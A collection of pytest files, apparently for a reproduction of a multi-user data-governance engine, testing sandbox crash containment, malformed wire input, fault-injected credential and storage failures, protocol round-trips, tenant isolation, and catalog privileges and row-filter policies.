        from repro.engine.expressions import UDFRuntime, col as ecol
        from repro.engine.logical import LocalRelation, Project, UnresolvedRelation
        from repro.engine.types import INT, Field, Schema
        from repro.errors import ExecutionError

        class LyingRuntime(UDFRuntime):
            def run_udf(self, udf_obj, args):
                return [1]  # always one row, whatever was asked

        data = LocalRelation(Schema((Field("a", INT),)), [[1, 2, 3]])
        engine = QueryEngine(DictResolver({"t": data}))
        plan = Project(UnresolvedRelation("t"), [ALICE_PLUS(ecol("a"), ecol("a"))])
        with pytest.raises(ExecutionError, match="returned 1 values"):
            engine.execute(plan, udf_runtime=LyingRuntime())


class TestHostileWireInput:
    def test_unknown_relation_type(self, standard_cluster, admin_client):
        client = standard_cluster.connect("alice")
        with pytest.raises(ProtocolError):
            client.execute_relation({"@type": "relation.evil"})

    def test_missing_type_discriminator(self, standard_cluster, admin_client):
        client = standard_cluster.connect("alice")
        with pytest.raises(LakeguardError):
            client.execute_relation({"table": "main.sales.orders"})

    def test_recursive_temp_view_bounded(self, standard_cluster, admin_client):
        client = standard_cluster.connect("alice")
        client.execute_command(
            proto.create_temp_view_command("loop", proto.read_table("loop"))
        )
        with pytest.raises(LakeguardError, match="depth"):
            client.table("loop").collect()

    def test_udf_blob_is_not_evaluated_at_decode_time(self, standard_cluster, admin_client):
        """A garbage cloudpickle blob fails cleanly at decode."""
        client = standard_cluster.connect("alice")
        relation = proto.project(
            proto.read_table("main.sales.orders"),
            [
                proto.python_udf(
                    "evil", "int", b"not a pickle", [proto.column("id")]
                )
            ],
        )
        with pytest.raises(LakeguardError):
            client.execute_relation(relation)


class TestTransportFaultsDuringCommands:
    def test_command_survives_stream_drop(self, workspace, standard_cluster, admin_client):
        from repro.connect.channel import FaultInjector

        faulty = standard_cluster.connect(
            "admin", faults=FaultInjector(drop_stream_after=0, times=1)
        )
        result = faulty.sql("GRANT SELECT ON main.sales.orders TO bob")
        assert result["status"] == "ok"

    def test_chaos_engine_stream_drop_reattaches(
        self, workspace, standard_cluster, admin_client
    ):
        """The channel also accepts the systemwide chaos engine."""
        chaos = FaultInjector()
        chaos.arm("channel.stream", FaultSpec(one_shot=True))
        client = standard_cluster.connect("alice", faults=chaos)
        rows = client.table("main.sales.orders").collect()
        assert len(rows) == 4
        assert chaos.trigger_count("channel.stream") == 1
        assert client._channel.stats.connections_dropped == 1


class TestCredentialExpiryMidQuery:
    def test_revend_recovers_query(self, workspace, admin_client, standard_cluster):
        """A credential rejected mid-scan is re-vended once and the scan
        completes; the recovery shows up in the fault-stats counters."""
        faults = workspace.catalog.faults
        alice = standard_cluster.connect("alice")
        # Counting pass: a probability-0 schedule never triggers but counts
        # every storage.get, telling us how many GETs one run of the query
        # makes. The *last* GET of a scan is always a data-file read (the
        # txn log resolves first), so targeting it lands the fault inside
        # the per-task recovery path rather than the log-read retry.
        faults.arm("storage.get", FaultSpec(probability=0.0))
        expected = alice.table("main.sales.orders").collect()
        per_query = faults.call_count("storage.get")
        assert per_query > 0
        faults.disarm("storage.get")  # checkpoint the call counter
        faults.arm(
            "storage.get",
            FaultSpec(
                kind="raise",
                error=lambda: TransientCredentialError(
                    "storage credential expired mid-query"
                ),
                after_calls=2 * per_query - 1,
                one_shot=True,
            ),
        )
        try:
            rows = alice.table("main.sales.orders").collect()
        finally:
            faults.disarm("storage.get")
        assert rows == expected
        assert faults.trigger_count("storage.get") == 1
        recovery = standard_cluster.backend.data_source.recovery_stats
        assert recovery.credential_revends == 1
        stats = faults.stats_snapshot()
        assert stats["recovered.credential.revend"] == 1.0

    def test_expiry_without_retries_fails(self, workspace, admin_client):
        """Ablation: with scan retries disabled the same fault is fatal."""
        from repro.errors import CredentialError

        cluster = workspace.create_standard_cluster(
            name="no-retries", scan_retries=0
        )
        faults = workspace.catalog.faults
        alice = cluster.connect("alice")
        faults.arm("storage.get", FaultSpec(probability=0.0))
        alice.table("main.sales.orders").collect()
        per_query = faults.call_count("storage.get")
        faults.disarm("storage.get")  # checkpoint the call counter
        faults.arm(
            "storage.get",
            FaultSpec(
                kind="raise",
                error=lambda: TransientCredentialError("expired"),
                after_calls=2 * per_query - 1,
                one_shot=True,
            ),
        )
        try:
            with pytest.raises(CredentialError):
                alice.table("main.sales.orders").collect()
        finally:
            faults.disarm("storage.get")


class TestStorageFlakeDuringParallelScan:
    def test_parallel_scan_absorbs_seeded_flakes(self, workspace, admin_client):
        """A multi-file scan on 4 executors under a periodic storage fault
        returns exactly the fault-free result, with retries recorded."""
        cluster = workspace.create_standard_cluster(
            name="flaky-scan", num_executors=4, scan_retries=5
        )
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE main.sales.flaky (id int, v float)")
        for i in range(8):  # eight commits -> eight data files
            admin.sql(f"INSERT INTO main.sales.flaky VALUES ({i}, {float(i)})")
        admin.sql("GRANT SELECT ON main.sales.flaky TO analysts")
        alice = cluster.connect("alice")
        faults = workspace.catalog.faults
        # Counting pass (see TestCredentialExpiryMidQuery): learn how many
        # GETs one run makes. The last 8 of them are the data-file reads.
        faults.arm("storage.get", FaultSpec(probability=0.0))
        expected = sorted(alice.sql("SELECT id, v FROM main.sales.flaky").collect())
        per_query = faults.call_count("storage.get")
        faults.disarm("storage.get")  # checkpoint the call counter
        assert len(expected) == 8

        # Fault every 3rd GET once the second run reaches its data-file
        # region; three triggers max, so even if every one hits the same
        # file the five per-file retries cannot be exhausted — the scan
        # must recover, and every trigger exercises scan-task recovery
        # (log reads stay clean by construction).
        faults.arm(
            "storage.get",
            FaultSpec(
                kind="raise",
                after_calls=2 * per_query - 8,
                every_nth=3,
                max_triggers=3,
            ),
        )
        try:
            rows = sorted(alice.sql("SELECT id, v FROM main.sales.flaky").collect())
        finally:
            faults.disarm("storage.get")
        assert rows == expected
        assert faults.trigger_count("storage.get") > 0
        recovery = cluster.backend.data_source.recovery_stats
        assert recovery.scan_retries > 0
        assert cluster.backend.data_source.stats.parallel_scans >= 1
