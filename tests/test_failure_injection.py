"""Failure injection: crashed sandboxes, dying workers, broken payloads.

Resilience behaviours the architecture promises:
- a sandbox crash is contained — the engine survives, the user gets a
  typed error, the next query gets a fresh sandbox (client/server
  decoupling, §3.2);
- transport faults during command execution recover via reattach;
- malformed or hostile wire input yields protocol errors, never crashes.
"""

import os
import signal

import pytest

from repro.connect import proto
from repro.connect.client import col, udf
from repro.engine.udf import udf as engine_udf
from repro.errors import (
    LakeguardError,
    ProtocolError,
    SandboxError,
    UserCodeError,
)
from repro.sandbox import ClusterManager, Dispatcher, SandboxedUDFRuntime
from repro.sandbox.subprocess_sandbox import SubprocessSandbox


@engine_udf("int")
def plus(a, b):
    return a + b


ALICE_PLUS = plus.with_owner("alice")


class TestSandboxCrash:
    def test_killed_worker_raises_sandbox_error(self):
        sandbox = SubprocessSandbox("alice")
        sandbox.invoke(ALICE_PLUS, [[1], [2]])
        os.kill(sandbox._process.pid, signal.SIGKILL)
        sandbox._process.wait(timeout=5)
        with pytest.raises(SandboxError, match="died|closed"):
            sandbox.invoke(ALICE_PLUS, [[1], [2]])

    def test_dispatcher_replaces_crashed_sandbox(self):
        manager = ClusterManager(backend="subprocess")
        dispatcher = Dispatcher(manager)
        first = dispatcher.acquire("s", "alice")
        first.invoke(ALICE_PLUS, [[1], [2]])
        os.kill(first._process.pid, signal.SIGKILL)
        first._process.wait(timeout=5)
        second = dispatcher.acquire("s", "alice")
        assert second is not first
        assert second.invoke(ALICE_PLUS, [[2], [3]]) == [5]
        manager.shutdown()

    def test_oom_style_crash_inside_udf_is_contained(self):
        """A UDF that kills its own process must not take the engine down."""

        @engine_udf("int")
        def suicide(x):
            os._exit(17)

        sandbox = SubprocessSandbox("alice")
        try:
            with pytest.raises(SandboxError):
                sandbox.invoke(suicide.with_owner("alice"), [[1]])
        finally:
            sandbox.close()

    def test_runtime_surfaces_crash_as_error_not_hang(self):
        manager = ClusterManager(backend="subprocess")
        dispatcher = Dispatcher(manager)
        runtime = SandboxedUDFRuntime(dispatcher, "s")

        @engine_udf("int")
        def die(x):
            os._exit(3)

        with pytest.raises(SandboxError):
            runtime.run_udf(die.with_owner("alice"), [[1]])
        manager.shutdown()


class TestUserCodeFaults:
    def test_exception_in_udf_is_typed(self, workspace, standard_cluster, admin_client):
        @udf("float")
        def broken(x):
            return 1 / 0

        alice = standard_cluster.connect("alice")
        with pytest.raises(UserCodeError, match="ZeroDivisionError"):
            alice.table("main.sales.orders").select(broken(col("amount"))).collect()

    def test_cluster_survives_udf_failure(self, workspace, standard_cluster, admin_client):
        @udf("float")
        def broken(x):
            raise RuntimeError("boom")

        alice = standard_cluster.connect("alice")
        with pytest.raises(UserCodeError):
            alice.table("main.sales.orders").select(broken(col("amount"))).collect()
        # Subsequent, healthy queries on the same session still work.
        assert len(alice.table("main.sales.orders").collect()) == 4

    def test_wrong_cardinality_udf_rejected(self):
        """A hostile UDF runtime returning wrong-length columns is caught."""
        from repro.engine.analyzer import DictResolver
        from repro.engine.executor import QueryEngine
        from repro.engine.expressions import UDFRuntime, col as ecol
        from repro.engine.logical import LocalRelation, Project, UnresolvedRelation
        from repro.engine.types import INT, Field, Schema
        from repro.errors import ExecutionError

        class LyingRuntime(UDFRuntime):
            def run_udf(self, udf_obj, args):
                return [1]  # always one row, whatever was asked

        data = LocalRelation(Schema((Field("a", INT),)), [[1, 2, 3]])
        engine = QueryEngine(DictResolver({"t": data}))
        plan = Project(UnresolvedRelation("t"), [ALICE_PLUS(ecol("a"), ecol("a"))])
        with pytest.raises(ExecutionError, match="returned 1 values"):
            engine.execute(plan, udf_runtime=LyingRuntime())


class TestHostileWireInput:
    def test_unknown_relation_type(self, standard_cluster, admin_client):
        client = standard_cluster.connect("alice")
        with pytest.raises(ProtocolError):
            client.execute_relation({"@type": "relation.evil"})

    def test_missing_type_discriminator(self, standard_cluster, admin_client):
        client = standard_cluster.connect("alice")
        with pytest.raises(LakeguardError):
            client.execute_relation({"table": "main.sales.orders"})

    def test_recursive_temp_view_bounded(self, standard_cluster, admin_client):
        client = standard_cluster.connect("alice")
        client.execute_command(
            proto.create_temp_view_command("loop", proto.read_table("loop"))
        )
        with pytest.raises(LakeguardError, match="depth"):
            client.table("loop").collect()

    def test_udf_blob_is_not_evaluated_at_decode_time(self, standard_cluster, admin_client):
        """A garbage cloudpickle blob fails cleanly at decode."""
        client = standard_cluster.connect("alice")
        relation = proto.project(
            proto.read_table("main.sales.orders"),
            [
                proto.python_udf(
                    "evil", "int", b"not a pickle", [proto.column("id")]
                )
            ],
        )
        with pytest.raises(LakeguardError):
            client.execute_relation(relation)


class TestTransportFaultsDuringCommands:
    def test_command_survives_stream_drop(self, workspace, standard_cluster, admin_client):
        from repro.connect.channel import FaultInjector

        faulty = standard_cluster.connect(
            "admin", faults=FaultInjector(drop_stream_after=0, times=1)
        )
        result = faulty.sql("GRANT SELECT ON main.sales.orders TO bob")
        assert result["status"] == "ok"
