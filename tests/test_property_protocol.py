"""Property-based tests for the Spark Connect wire format.

Random plan trees must round-trip byte-for-byte through encode/decode, and
random expression trees must survive server-side decoding into equivalent
engine expressions.
"""

from hypothesis import given, settings, strategies as st

from repro.connect import proto
from repro.core.plan_codec import PlanDecoder

# ---------------------------------------------------------------------------
# Strategies building random protocol messages
# ---------------------------------------------------------------------------

literal_values = st.one_of(
    st.integers(-1_000_000, 1_000_000),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.text(max_size=20),
    st.booleans(),
    st.none(),
    st.binary(max_size=32),
)

column_names = st.sampled_from(["a", "b", "c", "amount", "region"])


def expressions(depth: int = 2):
    base = st.one_of(
        literal_values.map(proto.literal),
        column_names.map(proto.column),
        st.just(proto.current_user()),
        st.sampled_from(["g1", "g2"]).map(proto.group_member),
    )
    if depth <= 0:
        return base
    sub = expressions(depth - 1)
    return st.one_of(
        base,
        st.tuples(st.sampled_from(["+", "-", "*", "=", "<", "AND", "OR"]), sub, sub).map(
            lambda t: proto.binary(*t)
        ),
        sub.map(proto.not_),
        st.tuples(sub, st.booleans()).map(lambda t: proto.isnull(t[0], t[1])),
        st.tuples(sub, st.text(max_size=8)).map(lambda t: proto.alias(t[0], t[1] or "x")),
        st.tuples(sub, st.sampled_from(["int", "float", "string"])).map(
            lambda t: proto.cast(t[0], t[1])
        ),
        st.tuples(sub, st.sampled_from(["like_%", "a_b", "%x%"])).map(
            lambda t: proto.like(t[0], t[1])
        ),
    )


def relations(depth: int = 2):
    base = st.one_of(
        st.sampled_from(["cat.s.t", "cat.s.u"]).map(proto.read_table),
        st.tuples(st.integers(0, 5), st.integers(6, 20)).map(
            lambda t: proto.range_relation(t[0], t[1])
        ),
    )
    if depth <= 0:
        return base
    sub = relations(depth - 1)
    expr = expressions(1)
    return st.one_of(
        base,
        st.tuples(sub, st.lists(expr, min_size=1, max_size=3)).map(
            lambda t: proto.project(t[0], t[1])
        ),
        st.tuples(sub, expr).map(lambda t: proto.filter_relation(t[0], t[1])),
        st.tuples(sub, st.integers(0, 100)).map(lambda t: proto.limit(t[0], t[1])),
        sub.map(proto.distinct),
        st.tuples(sub, st.sampled_from(["x", "y"])).map(
            lambda t: proto.subquery_alias(t[0], t[1])
        ),
        st.tuples(sub, sub).map(lambda t: proto.union([t[0], t[1]])),
    )


class TestWireRoundTrip:
    @given(message=relations(3))
    @settings(max_examples=200, deadline=None)
    def test_relation_roundtrip(self, message):
        assert proto.decode_message(proto.encode_message(message)) == message

    @given(message=expressions(3))
    @settings(max_examples=200, deadline=None)
    def test_expression_roundtrip(self, message):
        assert proto.decode_message(proto.encode_message(message)) == message

    @given(message=relations(2), junk=st.text(min_size=1, max_size=10))
    @settings(max_examples=100, deadline=None)
    def test_unknown_fields_preserved(self, message, junk):
        extended = dict(message)
        extended["x_future_field"] = junk
        decoded = proto.decode_message(proto.encode_message(extended))
        assert decoded["x_future_field"] == junk
        assert decoded["@type"] == message["@type"]


class TestDecoderTotality:
    """Every wire-legal expression decodes — or is *cleanly* type-rejected.

    Random trees may be type-nonsense (``NULL + NOT current_user()``); the
    decoder must either produce an engine expression or raise an
    AnalysisError. Anything else (KeyError, TypeError, ...) is a decoder bug.
    """

    @given(message=expressions(3))
    @settings(max_examples=200, deadline=None)
    def test_expression_decodes(self, message):
        from repro.errors import AnalysisError

        decoder = PlanDecoder("user", lambda name: None)
        try:
            expr = decoder.expression(
                proto.decode_message(proto.encode_message(message))
            )
        except AnalysisError:
            return  # clean type rejection is acceptable
        assert expr is not None
        # str() must not blow up (explain paths rely on it).
        assert isinstance(str(expr), str)

    @given(message=relations(3))
    @settings(max_examples=150, deadline=None)
    def test_relation_decodes(self, message):
        from repro.errors import AnalysisError

        decoder = PlanDecoder("user", lambda name: None)
        try:
            plan = decoder.relation(
                proto.decode_message(proto.encode_message(message))
            )
        except AnalysisError:
            return  # type-nonsense expressions inside: clean rejection
        assert plan is not None
        assert isinstance(plan.explain(), str)
