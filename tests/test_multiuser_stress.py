"""Interleaved multi-user workload on one Standard cluster.

Simulates the paper's target deployment: many identities, different grants
and policies, queries interleaved round-robin on shared compute — with the
invariant that every result is exactly what that identity is entitled to,
no matter what ran before or after on the same cluster — and that one
tenant's load cannot starve another's admission.
"""

import threading
import time

import pytest

from repro.common.context import QueryDeadlineExceeded
from repro.connect.client import col, udf
from repro.platform import Workspace

NUM_USERS = 6
ROUNDS = 5


@pytest.fixture
def busy_workspace():
    ws = Workspace()
    ws.add_user("admin", admin=True)
    regions = ["US", "EU", "APAC"]
    for i in range(NUM_USERS):
        ws.add_user(f"user{i}")
        ws.add_group(f"region_{regions[i % 3].lower()}", [f"user{i}"])
    cat = ws.catalog
    cat.create_catalog("m", owner="admin")
    cat.create_schema("m.s", owner="admin")
    cluster = ws.create_standard_cluster()
    admin = cluster.connect("admin")
    admin.sql("CREATE TABLE m.s.events (id int, region string, v float)")
    rows = ", ".join(
        f"({i}, '{regions[i % 3]}', {float(i)})" for i in range(30)
    )
    admin.sql(f"INSERT INTO m.s.events VALUES {rows}")
    for group in (f"region_{r.lower()}" for r in regions):
        admin.sql(f"GRANT USE CATALOG ON m TO {group}")
        admin.sql(f"GRANT USE SCHEMA ON m.s TO {group}")
        admin.sql(f"GRANT SELECT ON m.s.events TO {group}")
    # Everyone sees only their region.
    admin.sql(
        "ALTER TABLE m.s.events SET ROW FILTER ("
        "  (region = 'US' AND is_account_group_member('region_us'))"
        "  OR (region = 'EU' AND is_account_group_member('region_eu'))"
        "  OR (region = 'APAC' AND is_account_group_member('region_apac')))"
    )
    return ws, cluster


def expected_region(i: int) -> str:
    return ["US", "EU", "APAC"][i % 3]


class TestInterleavedWorkload:
    def test_round_robin_queries_stay_isolated(self, busy_workspace):
        ws, cluster = busy_workspace
        clients = [cluster.connect(f"user{i}") for i in range(NUM_USERS)]
        for _ in range(ROUNDS):
            for i, client in enumerate(clients):
                rows = client.sql("SELECT region FROM m.s.events").collect()
                regions = {r[0] for r in rows}
                assert regions == {expected_region(i)}, (
                    f"user{i} saw {regions}"
                )

    def test_interleaved_udfs_use_own_sandboxes(self, busy_workspace):
        ws, cluster = busy_workspace

        @udf("string")
        def tag(region):
            return f"seen:{region}"

        clients = [cluster.connect(f"user{i}") for i in range(3)]
        for round_number in range(3):
            for i, client in enumerate(clients):
                rows = client.table("m.s.events").select(tag(col("region"))).collect()
                values = {r[0] for r in rows}
                assert values == {f"seen:{expected_region(i)}"}
        # One sandbox per session, reused across rounds. Under a global
        # chaos schedule each injected invoke death destroys exactly one
        # sandbox and self-healing respawns it, so the invariant holds with
        # the trigger count added (zero in a fault-free run).
        injected_deaths = ws.catalog.faults.trigger_count("sandbox.invoke")
        assert cluster.backend.cluster_manager.stats.created == 3 + injected_deaths
        assert cluster.backend.dispatcher.stats.warm_acquisitions > 0

    def test_mixed_ddl_and_queries(self, busy_workspace):
        """Grants changing mid-stream take effect for subsequent queries."""
        ws, cluster = busy_workspace
        admin = cluster.connect("admin")
        user0 = cluster.connect("user0")
        assert len(user0.sql("SELECT id FROM m.s.events").collect()) == 10
        # Revoke mid-session: the next query must fail.
        admin.sql("REVOKE SELECT ON m.s.events FROM region_us")
        from repro.errors import PermissionDenied

        with pytest.raises(PermissionDenied):
            user0.sql("SELECT id FROM m.s.events").collect()
        # Re-grant: access returns without reconnecting.
        admin.sql("GRANT SELECT ON m.s.events TO region_us")
        assert len(user0.sql("SELECT id FROM m.s.events").collect()) == 10

    def test_temp_state_does_not_accumulate_across_users(self, busy_workspace):
        ws, cluster = busy_workspace
        from repro.errors import LakeguardError

        for i in range(3):
            client = cluster.connect(f"user{i}")
            client.table("m.s.events").create_temp_view(f"scratch_{i}")
        # A new client sees none of them.
        fresh = cluster.connect("user3")
        for i in range(3):
            with pytest.raises(LakeguardError):
                fresh.table(f"scratch_{i}").collect()

    def test_audit_has_complete_per_user_trail(self, busy_workspace):
        ws, cluster = busy_workspace
        clients = [cluster.connect(f"user{i}") for i in range(NUM_USERS)]
        for client in clients:
            client.sql("SELECT count(*) AS n FROM m.s.events").collect()
        principals = {e.principal for e in ws.catalog.audit}
        assert {f"user{i}" for i in range(NUM_USERS)} <= principals

    def test_session_close_releases_resources(self, busy_workspace):
        ws, cluster = busy_workspace

        @udf("float")
        def f(x):
            return x

        client = cluster.connect("user0")
        client.table("m.s.events").select(f(col("v"))).collect()
        assert cluster.backend.cluster_manager.stats.active == 1
        client.close()
        assert cluster.backend.cluster_manager.stats.active == 0


class TestWorkloadUnderContention:
    """Admission-control behaviour while tenants compete for slots."""

    def test_deadline_enforced_while_waiting_in_admission_queue(
        self, busy_workspace
    ):
        """A query whose deadline lapses in the admission queue fails with a
        typed wire error — it never gets a slot or executes."""
        ws, cluster = busy_workspace
        manager = cluster.workload_manager
        executed_before = manager.stats_snapshot().get("tenant.user0.admitted", 0)
        # Occupy every slot so the deadline-carrying query must queue.
        held = [manager.admit(f"squatter{i}") for i in range(manager.total_slots)]
        try:
            user0 = cluster.connect("user0")
            user0.deadline_seconds = 0.1
            started = time.monotonic()
            with pytest.raises(QueryDeadlineExceeded):
                user0.sql("SELECT id FROM m.s.events").collect()
            # It gave up at the deadline, not at the admission timeout.
            assert time.monotonic() - started < 5.0
        finally:
            for ticket in held:
                ticket.release()
        after = manager.stats_snapshot().get("tenant.user0.admitted", 0)
        assert after == executed_before
        assert manager.queue_depth() == 0
        # The same query with room to breathe succeeds.
        user0.deadline_seconds = 30.0
        assert len(user0.sql("SELECT id FROM m.s.events").collect()) == 10

    def test_cross_tenant_isolation_under_concurrent_load(self, busy_workspace):
        """A tenant flooding the cluster cannot starve the others: every
        light-tenant query is admitted, and fair share interleaves them
        ahead of the flooder's backlog instead of behind all of it."""
        ws, _ = busy_workspace
        # Few slots so eight flooding connections genuinely saturate them.
        cluster = ws.create_standard_cluster(name="contended", workload_slots=4)
        manager = cluster.workload_manager
        heavy = [cluster.connect("user0") for _ in range(8)]
        light_clients = [cluster.connect(f"user{i}") for i in (1, 2)]
        stop = threading.Event()
        errors: list[Exception] = []

        def flood(client) -> None:
            while not stop.is_set():
                try:
                    client.sql("SELECT v FROM m.s.events").collect()
                except Exception as exc:  # pragma: no cover - fails the test
                    errors.append(exc)
                    return

        flooders = [
            threading.Thread(target=flood, args=(c,), daemon=True) for c in heavy
        ]
        for t in flooders:
            t.start()
        light_results: list[int] = []

        def light_work(client, expect_region) -> None:
            for _ in range(5):
                rows = client.sql("SELECT region FROM m.s.events").collect()
                assert {r[0] for r in rows} == {expect_region}
                light_results.append(len(rows))

        try:
            light_threads = [
                threading.Thread(
                    target=light_work, args=(c, expected_region(i))
                )
                for i, c in zip((1, 2), light_clients)
            ]
            for t in light_threads:
                t.start()
            for t in light_threads:
                t.join(timeout=60)
                assert not t.is_alive(), "light tenant starved under load"
        finally:
            stop.set()
            for t in flooders:
                t.join(timeout=60)
        assert not errors, errors
        # Every light query was admitted (none shed, none timed out) and the
        # results stayed exactly the tenant's governed view throughout.
        assert len(light_results) == 10
        snapshot = manager.stats_snapshot()
        assert snapshot["tenant.user1.admitted"] >= 5
        assert snapshot["tenant.user2.admitted"] >= 5
        assert snapshot["tenant.user1.shed"] == 0
        assert snapshot["tenant.user2.shed"] == 0
        assert snapshot["admission_timeouts"] == 0
        # The flooder got the bulk of the slots but not all of them.
        assert snapshot["tenant.user0.admitted"] > snapshot["tenant.user1.admitted"]
