"""Tests for Unity Catalog: namespace, privileges, policies, credentials."""

import pytest

from repro.catalog import (
    COMPUTE_DEDICATED,
    COMPUTE_STANDARD,
    ComputeCapabilities,
    UnityCatalog,
)
from repro.catalog.policies import ColumnMask, RowFilter
from repro.catalog.scopes import ANNOTATION_REQUIRES_EXTERNAL_FGAC
from repro.engine.types import INT, STRING, schema_of
from repro.engine.udf import udf
from repro.errors import (
    PermissionDenied,
    PolicyError,
    SecurableAlreadyExists,
    SecurableNotFound,
)
from repro.sql.parser import parse_expression
from repro.storage.credentials import LIST, READ, WRITE

STANDARD = ComputeCapabilities("std-1", COMPUTE_STANDARD)
DEDICATED = ComputeCapabilities("ded-1", COMPUTE_DEDICATED)


@pytest.fixture
def catalog():
    cat = UnityCatalog()
    cat.principals.add_user("admin", admin=True)
    cat.principals.add_user("owner")
    cat.principals.add_user("alice")
    cat.principals.add_user("bob")
    cat.principals.add_group("analysts", ["alice"])
    cat.create_catalog("main", owner="owner")
    cat.create_schema("main.s", owner="owner")
    cat.create_table("main.s.t", schema_of(id=INT, region=STRING), owner="owner")
    return cat


def ctx(catalog, user):
    return catalog.principals.context_for(user)


class TestNamespace:
    def test_duplicate_catalog(self, catalog):
        with pytest.raises(SecurableAlreadyExists):
            catalog.create_catalog("main", owner="x")

    def test_duplicate_table(self, catalog):
        with pytest.raises(SecurableAlreadyExists):
            catalog.create_table("main.s.t", schema_of(id=INT), owner="x")

    def test_missing_schema(self, catalog):
        with pytest.raises(SecurableNotFound):
            catalog.create_table("main.ghost.t", schema_of(id=INT), owner="x")

    def test_bad_name_shape(self, catalog):
        with pytest.raises(SecurableNotFound):
            catalog.get_object("just_a_table")

    def test_list_objects(self, catalog):
        assert catalog.list_objects("main.s") == ["t"]

    def test_object_exists(self, catalog):
        assert catalog.object_exists("main.s.t")
        assert not catalog.object_exists("main.s.ghost")


class TestGroups:
    def test_transitive_membership(self, catalog):
        catalog.principals.add_group("all_staff", ["analysts"])
        groups = catalog.principals.groups_of("alice")
        assert "analysts" in groups and "all_staff" in groups

    def test_context_includes_groups(self, catalog):
        assert "analysts" in ctx(catalog, "alice").groups

    def test_unknown_user(self, catalog):
        with pytest.raises(SecurableNotFound):
            catalog.principals.context_for("ghost")


class TestPrivileges:
    def test_owner_has_everything(self, catalog):
        assert catalog.has_privilege(ctx(catalog, "owner"), "SELECT", "main.s.t")

    def test_admin_bypass(self, catalog):
        assert catalog.has_privilege(ctx(catalog, "admin"), "MODIFY", "main.s.t")

    def test_plain_user_denied(self, catalog):
        assert not catalog.has_privilege(ctx(catalog, "bob"), "SELECT", "main.s.t")

    def test_hierarchy_required(self, catalog):
        # SELECT grant alone is not enough without USE CATALOG/SCHEMA.
        catalog.grant("SELECT", "main.s.t", "alice")
        assert not catalog.has_privilege(ctx(catalog, "alice"), "SELECT", "main.s.t")
        catalog.grant("USE_CATALOG", "main", "alice")
        assert not catalog.has_privilege(ctx(catalog, "alice"), "SELECT", "main.s.t")
        catalog.grant("USE_SCHEMA", "main.s", "alice")
        assert catalog.has_privilege(ctx(catalog, "alice"), "SELECT", "main.s.t")

    def test_grant_to_group(self, catalog):
        for privilege, securable in [
            ("USE_CATALOG", "main"),
            ("USE_SCHEMA", "main.s"),
            ("SELECT", "main.s.t"),
        ]:
            catalog.grant(privilege, securable, "analysts")
        assert catalog.has_privilege(ctx(catalog, "alice"), "SELECT", "main.s.t")
        assert not catalog.has_privilege(ctx(catalog, "bob"), "SELECT", "main.s.t")

    def test_revoke(self, catalog):
        catalog.grant("USE_CATALOG", "main", "alice")
        catalog.grant("USE_SCHEMA", "main.s", "alice")
        catalog.grant("SELECT", "main.s.t", "alice")
        catalog.revoke("SELECT", "main.s.t", "alice")
        assert not catalog.has_privilege(ctx(catalog, "alice"), "SELECT", "main.s.t")

    def test_check_privilege_raises_and_audits(self, catalog):
        with pytest.raises(PermissionDenied):
            catalog.check_privilege(ctx(catalog, "bob"), "SELECT", "main.s.t")
        denials = catalog.audit.denials(principal="bob")
        assert denials and denials[-1].resource == "main.s.t"

    def test_grant_checked_requires_authority(self, catalog):
        with pytest.raises(PermissionDenied):
            catalog.grant_checked(ctx(catalog, "bob"), "SELECT", "main.s.t", "alice")
        catalog.grant_checked(ctx(catalog, "owner"), "SELECT", "main.s.t", "alice")

    def test_down_scoped_context(self, catalog):
        catalog.grant("USE_CATALOG", "main", "analysts")
        catalog.grant("USE_SCHEMA", "main.s", "analysts")
        catalog.grant("SELECT", "main.s.t", "analysts")
        # alice personally also gets MODIFY.
        catalog.grant("MODIFY", "main.s.t", "alice")
        scoped = ctx(catalog, "alice").down_scoped_to("analysts")
        assert catalog.has_privilege(scoped, "SELECT", "main.s.t")
        assert not catalog.has_privilege(scoped, "MODIFY", "main.s.t")

    def test_down_scoped_admin_loses_bypass(self, catalog):
        scoped = ctx(catalog, "admin").down_scoped_to("analysts")
        assert not catalog.has_privilege(scoped, "MODIFY", "main.s.t")

    def test_down_scope_keeps_identity(self, catalog):
        scoped = ctx(catalog, "alice").down_scoped_to("analysts")
        assert scoped.user == "alice"


class TestPolicies:
    def test_row_filter_requires_ownership(self, catalog):
        rf = RowFilter("main.s.t", parse_expression("region = 'US'"), "bob")
        with pytest.raises(PermissionDenied):
            catalog.set_row_filter("main.s.t", rf, ctx(catalog, "bob"))

    def test_row_filter_validates_columns(self, catalog):
        rf = RowFilter("main.s.t", parse_expression("ghost = 1"), "owner")
        with pytest.raises(PolicyError):
            catalog.set_row_filter("main.s.t", rf, ctx(catalog, "owner"))

    def test_row_filter_rejects_user_code(self, catalog):
        @udf("bool")
        def evil(x):
            return True

        rf = RowFilter("main.s.t", evil(parse_expression("id")), "owner")
        with pytest.raises(PolicyError, match="user code"):
            catalog.set_row_filter("main.s.t", rf, ctx(catalog, "owner"))

    def test_mask_unknown_column(self, catalog):
        mask = ColumnMask("main.s.t", "ghost", parse_expression("'x'"), "owner")
        with pytest.raises(PolicyError):
            catalog.set_column_mask("main.s.t", mask, ctx(catalog, "owner"))

    def test_policies_settable_and_droppable(self, catalog):
        owner = ctx(catalog, "owner")
        rf = RowFilter("main.s.t", parse_expression("region = 'US'"), "owner")
        catalog.set_row_filter("main.s.t", rf, owner)
        assert catalog.has_policies("main.s.t")
        catalog.drop_row_filter("main.s.t", owner)
        assert not catalog.has_policies("main.s.t")


class TestPrivilegeScopes:
    def _grant_all(self, catalog):
        catalog.grant("USE_CATALOG", "main", "alice")
        catalog.grant("USE_SCHEMA", "main.s", "alice")
        catalog.grant("SELECT", "main.s.t", "alice")

    def test_plain_table_full_metadata_everywhere(self, catalog):
        self._grant_all(catalog)
        meta = catalog.relation_metadata("main.s.t", ctx(catalog, "alice"), DEDICATED)
        assert meta.storage_root is not None
        assert ANNOTATION_REQUIRES_EXTERNAL_FGAC not in meta.annotations

    def test_policy_table_annotated_on_dedicated(self, catalog):
        self._grant_all(catalog)
        rf = RowFilter("main.s.t", parse_expression("region = 'US'"), "owner")
        catalog.set_row_filter("main.s.t", rf, ctx(catalog, "owner"))
        meta = catalog.relation_metadata("main.s.t", ctx(catalog, "alice"), DEDICATED)
        assert ANNOTATION_REQUIRES_EXTERNAL_FGAC in meta.annotations
        assert meta.row_filter is None, "policy details never reach privileged compute"
        assert meta.storage_root is None

    def test_policy_table_full_on_standard(self, catalog):
        self._grant_all(catalog)
        rf = RowFilter("main.s.t", parse_expression("region = 'US'"), "owner")
